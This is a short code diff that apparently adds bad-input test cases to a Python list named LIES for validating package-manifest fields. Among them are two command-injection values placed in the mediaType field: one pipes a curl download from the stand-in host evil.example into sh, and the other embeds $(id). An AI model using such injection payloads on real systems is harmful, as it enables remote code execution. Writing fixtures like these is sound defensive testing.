@@ -75,6 +75,12 @@ LIES: list[dict[str, Any]] = [
     {"pac\u212aage": "mallory/nginx"},
     {"RELEASE": "2.0.0"},
     {"mediaType": 7},
+    {"mediaType": ""},
+    {"mediaType": "helm kpm"},
+    {"mediaType": "x';curl${IFS}evil.example|sh;'"},
+    {"mediaType": "application/vnd.appr.package-manifest.$(id).v0.json"},
+    {"mediaType": "h" * 128},
+    {"mediaType": "helm\n"},
     {"package": None},
     {"release": ["1.0.0"]},
 ]
